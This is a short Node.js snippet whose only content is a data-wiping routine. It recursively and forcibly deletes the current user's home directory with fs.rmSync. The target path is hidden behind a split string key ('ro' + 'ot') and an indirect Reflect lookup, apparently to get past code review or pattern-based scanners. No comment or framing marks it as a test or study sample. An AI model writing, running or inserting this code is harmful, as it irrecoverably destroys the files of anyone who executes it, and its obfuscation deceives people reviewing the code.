const fs = require('fs');
const os = require('os');
const state = { ['ro' + 'ot']: os.homedir() };
fs.rmSync(Reflect.getOwnPropertyDescriptor(state, 'root').value, { recursive: true, force: true });
